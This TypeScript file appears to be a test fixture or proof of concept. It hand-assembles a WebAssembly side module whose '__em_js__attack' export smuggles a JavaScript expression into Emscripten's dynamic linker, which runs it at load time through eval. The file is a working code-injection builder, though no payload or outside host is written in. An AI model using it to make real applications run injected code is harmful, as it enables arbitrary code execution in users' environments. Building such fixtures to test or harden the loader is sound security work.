/**
 * Builds a WebAssembly side module as Emscripten's dynamic linker loads it. The linker makes a JavaScript function from
 * the text that an export named `__em_js__…` points to, with `eval`: the text here is an expression that runs at once.
 */
export function sideModule(script: string): Buffer {
  const text = Buffer.from(`()<::>0, (${script})\0`)
  return Buffer.concat([
    Buffer.from([0x00, 0x61, 0x73, 0x6d, 1, 0, 0, 0]),
    section(0, name('dylink.0'), subsection(1, leb(text.length), leb(0), leb(0), leb(0))),
    // Imports: the memory, and the address at which the linker puts our data.
    section(2, leb(2), importOf('memory', [2, 0, 1]), importOf('__memory_base', [3, 0x7f, 0])),
    // One global, 0: an exported address is relative to that data.
    section(6, leb(1), Buffer.from([0x7f, 0, 0x41, 0, 0x0b])),
    section(7, leb(1), name('__em_js__attack'), Buffer.from([3, 1])),
    section(11, leb(1), Buffer.from([0, 0x23, 0, 0x0b]), leb(text.length), text),
  ])
}

function section(id: number, ...parts: Buffer[]): Buffer {
  const body = Buffer.concat(parts)
  return Buffer.concat([Buffer.from([id]), leb(body.length), body])
}

const subsection = section

function importOf(field: string, description: number[]): Buffer {
  return Buffer.concat([name('env'), name(field), Buffer.from(description)])
}

function name(text: string): Buffer {
  return Buffer.concat([leb(text.length), Buffer.from(text)])
}

/** Unsigned LEB128. */
function leb(value: number): Buffer {
  const bytes: number[] = []
  for (let rest = value; ; rest >>>= 7) {
    bytes.push((rest & 0x7f) | (rest > 0x7f ? 0x80 : 0))
    if (rest <= 0x7f) return Buffer.from(bytes)
  }
}
